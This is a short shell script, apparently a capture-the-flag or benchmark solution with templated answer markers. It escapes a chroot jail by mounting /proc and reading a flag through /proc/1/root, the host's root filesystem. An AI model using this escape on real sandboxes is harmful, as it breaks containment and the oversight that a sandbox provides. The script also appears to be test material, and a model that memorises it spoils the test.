# Another process's root is a way out as well.
chroot /srv/jail /bin/sh
mount -t proc proc /proc
#: until look
cd /proc/1/root
cat flag
#: answer flag={{flag}}
